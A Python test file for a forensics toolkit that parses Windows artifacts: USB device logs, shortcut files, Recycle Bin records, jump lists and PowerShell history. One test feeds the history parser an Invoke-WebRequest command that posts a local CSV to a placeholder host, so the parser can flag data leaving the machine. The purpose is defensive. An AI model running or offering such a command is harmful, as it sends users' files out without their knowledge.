from __future__ import annotations

import csv
import json
import lzma
import struct

import pytest
from makers import (
    COMPUTER_ITEM,
    DRIVE_ITEM,
    FILETIME_2022,
    KNOWN_ITEM,
    PHOTO_ITEM,
    SHARE_ITEM,
    STORE_ITEM,
    file_item,
    link,
)  # fmt: skip

from forensics import unpack
from forensics.artifacts import Content, Parsed
from forensics.artifacts.windows import (
    custom_destinations,
    dest_list,
    lnk,
    powershell_history,
    recycle_i,
    recycle_info,
    setupapi,
)  # fmt: skip
from forensics.values import Interval, moment

SETUPAPI = r"""[Device Install Log]
     OS Version = 10.0.19044
[BeginLog]

[Boot Session: 2019/09/10 07:53:34.500]

>>>  [Device Install (Hardware initiated) - USB\VID_0951&PID_0001\EX0123]
>>>  Section start 2019/09/10 09:00:34.000
     dvi: {Build Driver List} 09:00:34.040
<<<  Section end 2019/09/10 09:00:34.310
<<<  [Exit status: SUCCESS]

[Boot Session: 2019/09/10 07:53:34.500]

>>>  [Device Install (Hardware initiated) - USBSTOR\Disk&Ven_A&Prod_日本&Rev_1\EX0123&0]
>>>  Section start 2019/09/10 09:00:34.800
<<<  Section end 2019/09/10 09:00:35.110

>>>  [Device Install (Hardware initiated) - USB\VID_046D&PID_C31C\5&1a2b&0&1]
>>>  Section start 2019/09/11 09:00:34.800
     inf:      keyboard.inf
>>>  [Device Install (Hardware initiated) - USB\VID_0781&PID_5580\UAS77]
>>>  Section start 2019/09/12 09:00:34.800
     dvi:      Service Name: UASPStor
>>>  [Delete Device - USBSTOR\Disk&Ven_A&Prod_B&Rev_1\EX0123&0]
>>>  Section start 2019/13/41 09:00:34.800
"""


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp932"])
def test_setupapi(encoding):
    data = SETUPAPI.replace("\n", "\r\n").encode(encoding)
    parsed = setupapi.parse(Content(data, "/Windows/INF/setupapi.dev.log"))
    assert parsed.gaps == []
    rows = [row for row in parsed.traces if not row["kind"].startswith("log_")]
    assert [(row["kind"], row.get("medium_serial"), row["time_raw"]) for row in rows] == [
        ("host_started", None, "2019/09/10 07:53:34.500"),
        ("device_first_installed", "EX0123", "2019/09/10 09:00:34.000"),
        ("device_first_installed", "EX0123", "2019/09/10 09:00:34.800"),
        ("device_first_installed", "UAS77", "2019/09/12 09:00:34.800"),
        ("device_seen", "EX0123", "2019/13/41 09:00:34.800"),
    ]
    assert rows[1]["time"].basis == "local:unknown"
    assert str(moment(rows[1]["time"].start)) == "2019-09-10 09:00:34+00:00"
    assert rows[2]["label"] == "A 日本"
    start, length = rows[1]["at"]
    assert b"EX0123" in data[start : start + length].replace(b"\0", b"")
    assert rows[4]["time"].start is None  # no such day


MODIFIED, BORN = Interval(2_000_000, 2_000_001, "utc"), Interval(1_000_000, 1_000_001, "utc")
RECENT = "/Users/reidai/AppData/Roaming/Microsoft/Windows/Recent/list.csv.lnk"


def test_a_link_in_recent_is_a_last_and_a_first_opening():
    times = {"modified": MODIFIED, "born": BORN}
    parsed = lnk.parse(Content(link(), RECENT, times))
    assert parsed.gaps == []
    assert [(row["kind"], row["time"]) for row in parsed.traces] == [
        ("file_opened", MODIFIED),
        ("file_opened", BORN),
    ]
    row = parsed.traces[0]
    assert {key: row[key] for key in ("account", "host", "volume_serial", "label", "path", "size", "letter")} == {
        "account": "reidai", "host": "example-pc", "volume_serial": "1A2B3C4D", "label": "EXAMPLE_A",
        "path": "E:\\data\\list.csv", "size": 297571, "letter": "E",
    }  # fmt: skip
    assert row["detail"] == (
        "which=last;drive_type=removable;target_created=2022-06-18T04:26:40.000000Z;"
        "target_modified=2022-06-18T04:26:40.000002Z;target_accessed=2022-06-18T04:26:40.000001Z;"
        "droid_volume=11111111-2222-1333-8444-0123456789ab;"
        "droid_file=11111111-2222-1333-8444-0123456789ab;mac=01:23:45:67:89:ab"
    )


@pytest.mark.parametrize(
    ("data", "path", "kind", "target", "gaps"),
    [
        (link(), None, "shortcut", "E:\\data\\list.csv", []),
        (
            link("C:\\Users", suffix="reidai\\a.csv"),
            RECENT,
            "file_opened",
            "C:\\Users\\reidai\\a.csv",
            [],
        ),
        (
            link("E:\\住民\\台帳.csv", tracker=False),
            RECENT,
            "file_opened",
            "E:\\住民\\台帳.csv",
            [],
        ),
        (link()[:120], RECENT, "file_opened", None, [(76, 44, "TRUNCATED")]),
        (b"L\0\0\0", RECENT, None, None, [(0, 4, "NO_LINK_HEADER")]),
        (b"", RECENT, None, None, [(0, 0, "NO_LINK_HEADER")]),
    ],
)
def test_links(data, path, kind, target, gaps):
    parsed = lnk.parse(Content(data, path))
    assert [tuple(gap) for gap in parsed.gaps] == gaps
    assert [(row["kind"], row["path"]) for row in parsed.traces] == (
        [(kind, target)] if kind else []
    )


DESKTOP_ITEM = struct.pack("<HBB", 20, 0x2E, 0x80) + bytes.fromhex(
    "3accbfb42cdb4c42b0297fe99a87c641"
)


def listed(*found: bytes) -> bytes:
    """A LNK that has its target in a list of items only."""
    ids = b"".join(found) + b"\0\0"
    return link()[:20] + b"\x81" + link()[21:76] + struct.pack("<H", len(ids)) + ids


@pytest.mark.parametrize(
    ("found", "path"),
    [
        ([COMPUTER_ITEM, DRIVE_ITEM, file_item("住民", kind=0x31), file_item("台帳.csv")], "E:\\住民\\台帳.csv"),
        ([COMPUTER_ITEM, SHARE_ITEM, file_item("a.csv")], "\\\\server\\office\\a.csv"),
        ([COMPUTER_ITEM, STORE_ITEM, PHOTO_ITEM], "Card\\a.jpg"),
        ([COMPUTER_ITEM, file_item("台帳.csv", kind=0x74)], "台帳.csv"),
        ([COMPUTER_ITEM, KNOWN_ITEM, file_item("a.csv")], "Desktop\\a.csv"),
        ([COMPUTER_ITEM, DESKTOP_ITEM, file_item("a.csv")], "Desktop\\a.csv"),
        ([COMPUTER_ITEM], None),
    ],
)  # fmt: skip
def test_a_list_of_items_names_the_target(found, path):
    parsed = lnk.parse(Content(listed(*found), RECENT))
    assert [row["path"] for row in parsed.traces] == [path]


@pytest.mark.parametrize("page", ["cp932", "cp1252", "cp949"])
def test_the_code_page_is_the_one_that_agrees_with_the_items(page):
    folder = {"cp932": "台帳", "cp1252": "QUALITÉ", "cp949": "한글"}[page]
    whole = link().replace(b"E:\\data\\list.csv", f"E:\\{folder}".encode(page).ljust(16, b"\0"))
    ids = DRIVE_ITEM + file_item(folder) + b"\0\0"
    data = whole[:20] + b"\x83" + whole[21:76] + struct.pack("<H", len(ids)) + ids + whole[76:]
    parsed = lnk.parse(Content(data, RECENT))
    assert parsed.gaps == []
    assert [row["path"] for row in parsed.traces] == [f"E:\\{folder}"]


def test_a_link_that_names_its_target_with_variables_only():
    block = struct.pack("<II", 0x314, 0xA0000001) + b"%windir%\\a.exe".ljust(260, b"\0")
    head = link()[:20] + b"\x80" + link()[21:76]
    (row,) = lnk.parse(Content(head + block.ljust(0x314, b"\0") + bytes(4), RECENT)).traces
    assert row["path"] == "%windir%\\a.exe"


def recycled(version: int, path: str, size: int = 297571, characters: int | None = None) -> bytes:
    raw = (path + "\0").encode("utf-16-le")
    head = struct.pack("<QQQ", version, size, FILETIME_2022)
    if version == 1:
        return head + raw.ljust(520, b"\0")
    return head + struct.pack("<I", len(raw) // 2 if characters is None else characters) + raw


BIN = "/$Recycle.Bin/S-1-5-21-1-2-3-1001/$IQ7X2AB.csv"
TARGET = "C:\\Users\\reidai\\Desktop\\住民 - コピー.csv"


@pytest.mark.parametrize(
    ("data", "path", "gaps"),
    [
        (recycled(1, TARGET), TARGET, []),
        (recycled(2, TARGET), TARGET, []),
        (recycled(2, TARGET) + b"xx", TARGET, [(102, 2, "TRAILING_BYTES")]),
        (recycled(2, TARGET, characters=99), TARGET, [(28, 74, "PATH_SHORT")]),
        (recycled(2, TARGET)[:50], "C:\\Users\\re", [(28, 22, "PATH_SHORT")]),
        (recycled(3, TARGET), None, [(0, 102, "VERSION")]),
        (recycled(2, TARGET)[:27], None, [(0, 27, "TRUNCATED")]),
        (b"", None, [(0, 0, "TRUNCATED")]),
    ],
)
def test_recycle_i(data, path, gaps):
    parsed = recycle_i.parse(Content(data, BIN))
    assert [tuple(gap) for gap in parsed.gaps] == gaps
    assert [row["path"] for row in parsed.traces] == ([path] if path else [])
    for row in parsed.traces:
        assert (row["account"], row["size"], row["detail"]) == (
            "S-1-5-21-1-2-3-1001", 297571, "content=$RQ7X2AB.csv",
        )  # fmt: skip


def test_a_recycled_file_whose_size_has_seven_bytes():
    whole = recycled(1, TARGET)
    row = recycle_i.parse(Content(whole, BIN)).traces[0]
    parsed = recycle_i.parse(Content(whole[:15] + whole[16:], BIN))
    assert parsed == Parsed([row | {"at": (0, 543)}], [], [])


@pytest.mark.parametrize(
    ("drive", "path", "shown"),
    [
        (4, b"\0:\\data\\\x91\xe4\x92\xa0.csv", "E:\\data\\台帳.csv"),
        (26, b"\0\\server\\office\\a.csv", "\\\\server\\office\\a.csv"),
        (99, b"\0:\\data\\a.csv", None),
        (2, b"C:\\data\\a.csv", "C:\\data\\a.csv"),
    ],
)
def test_a_recycled_file_that_is_gone_keeps_its_path(drive, path, shown):
    record = path.ljust(260, b"\0") + struct.pack("<IIQI", 1, drive, FILETIME_2022, 4096)
    data = struct.pack("<IIII", 4, 0, 0, 280).ljust(20, b"\0") + record
    (row,) = recycle_info.parse(Content(data, "/RECYCLED/INFO2")).traces
    assert (row["path"], row["letter"]) == (shown, shown[0] if shown and shown[1] == ":" else None)
    assert row["detail"] == ("gone=yes" if path[:1] == b"\0" else None)


def test_dest_list_of_both_layouts():
    name = "E:\\data\\list.csv"
    for version, extra, tail in ((1, b"", b""), (4, bytes(16), bytes(4))):
        entry = bytes(8) + bytes(64) + b"example-pc".ljust(16, b"\0") + struct.pack("<III", 7, 0, 0)
        entry += struct.pack("<Qi", FILETIME_2022, -1) + extra + struct.pack("<H", len(name))
        data = (
            struct.pack("<II", version, 2).ljust(32, b"\0")
            + (entry + name.encode("utf-16-le") + tail) * 2
        )
        parsed = dest_list.parse(Content(data, "/Users/a/x.automaticDestinations-ms!DestList"))
        assert [(row["path"], row["time_raw"], row["record_number"]) for row in parsed.traces] == [
            (name, str(FILETIME_2022), 7)
        ] * 2
        assert parsed.gaps == []
        short = dest_list.parse(Content(data[:-40], None))
        assert (len(short.traces), [gap.reason for gap in short.gaps]) == (1, ["TRUNCATED"])


def unpacked(path) -> bytes:
    with lzma.open(path) as file:
        return file.read()


# --- real files ---------------------------------------------------------------------------------


@pytest.mark.image
def test_links_as_two_other_readers_have_them(shared):
    with (shared / "corpus/expected/artifacts/lnk.csv").open(encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) > 40
    for row in rows:
        link_ = lnk.read((shared / "corpus" / row["path"]).read_bytes(), [])
        if not link_.filetimes:
            assert row["error_LnkParse3"], row["path"]
            continue
        number = row["drive_serial"]
        assert link_.volume_serial == (f"{int(number, 16):08X}" if number else None), row["path"]
        assert (link_.size, link_.label or "") == (int(row["size"] or 0), row["volume_label"]), row[
            "path"
        ]
        if "unpaired" in row["path"] or "sample6" in row["path"]:
            continue  # a lone surrogate; Chinese, which liblnk reads as CP1252
        if row["liblnk_local_path"]:  # LnkParse3 stops where base and suffix meet
            assert (link_.path or "").strip() == row["liblnk_local_path"].strip(), row["path"]
        if row["liblnk_network_path"]:
            assert (link_.share or "") in row["liblnk_network_path"], row["path"]


@pytest.mark.image
def test_recycle_bins_as_published(shared):
    published = shared / "corpus/expected/published/rifiuti2"
    folder = shared / "corpus/artifacts/windows/recycle_bin"
    compared = 0
    for file in sorted(published.glob("*.json")):
        text = file.read_text(encoding="utf-8").replace("},\n  ]", "}\n  ]")
        answer = json.loads(text)
        for record in answer["records"]:
            if answer["format"] == "dir":
                data = (folder / answer["path"] / record["index"]).read_bytes()
                found = recycle_i.parse(Content(data)).traces
            else:
                place = folder / answer["path"]
                data = place.read_bytes() if place.exists() else unpacked(f"{place}.xz")
                found = recycle_info.parse(Content(data)).traces
                found = [row for row in found if row["record_number"] == record["index"]]
            (row,) = found
            time = moment(row["time"].start).strftime("%Y-%m-%dT%H:%M:%SZ")
            assert (row["path"], row["size"], time) == (
                record["path"],
                record["size"],
                record["time"],
            )
            if answer["format"] == "file":
                assert ("gone=yes" in (row["detail"] or "")) == record["gone"]
            compared += 1
    assert compared == 37
    cut = recycle_info.parse(Content((folder / "INFO2-trunc").read_bytes()))
    assert (len(cut.traces), [gap[1:] for gap in cut.gaps]) == (4, [(795, "TRUNCATED")])


@pytest.mark.image
def test_a_real_setupapi_log(shared):
    data = unpacked(shared / "corpus/artifacts/removable/setupapi.dev.log.xz")
    parsed = setupapi.parse(Content(data, "/Windows/INF/setupapi.dev.log"))
    (span,) = [row for row in parsed.traces if row["kind"] == "log_span"]
    assert "records=194;" in span["detail"]
    assert {row["medium_serial"] for row in parsed.traces if "medium_serial" in row} == {"99E2116A"}


@pytest.mark.image
def test_jump_lists_through_their_container(shared):
    folder = shared / "corpus/artifacts/windows/jumplists"
    counts = {"9d1f905ce5044aee": 2, "f01b4d95cf55d32a": 9, "7e4dca80246863e3": 1}
    for name, entries in counts.items():
        data = (folder / f"{name}.automaticDestinations-ms").read_bytes()
        unpacker = unpack.find(data[:4096])
        links = 0
        for member in unpacker.members(unpack.Buffer(data), unpack.Budget(len(data))):
            body = b"".join(member.chunks())
            if member.name == "DestList":
                parsed = dest_list.parse(Content(body))
                assert (len(parsed.traces), parsed.gaps) == (entries, [])
            else:
                links += len(lnk.parse(Content(body)).traces)
        assert links == entries
    data = unpacked(folder / "5afe4de1b92fc382.customDestinations-ms.xz")
    assert len(custom_destinations.parse(Content(data)).traces) == 9


@pytest.mark.parametrize(
    ("line", "told"),
    [
        ("Copy-Item C:\\work\\list.csv F:\\", [("C:\\work\\list.csv", True)]),
        ('Copy-Item -Path "C:\\my work\\a.csv" -Destination E:', [("C:\\my work\\a.csv", True)]),
        ("robocopy C:\\work \\\\nas\\x /E", [("C:\\work", True)]),
        ("copy C:\\a.csv C:\\b.csv", [("C:\\a.csv", False)]),
        ("Get-Content C:\\a.csv | more", [("C:\\a.csv", False)]),
        ("Invoke-WebRequest https://x.example/ -Method Post -InFile C:\\a.csv", [("C:\\a.csv", True)]),
        ("dir F:\\", []), ("Copy-Item a.csv b.csv", []),
    ],
)  # fmt: skip
def test_commands_typed_into_powershell(line, told):
    path = (
        "/Users/kei/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
    )
    parsed = powershell_history.parse(Content(f"cd\r\n{line}\r\n".encode(), path))
    found = [(row["path"], "leaves=yes" in (row["detail"] or "")) for row in parsed.traces]
    assert found == told
    assert {row["account"] for row in parsed.traces} <= {"kei"}
    assert powershell_history.ARTIFACT.claims(path, b"")
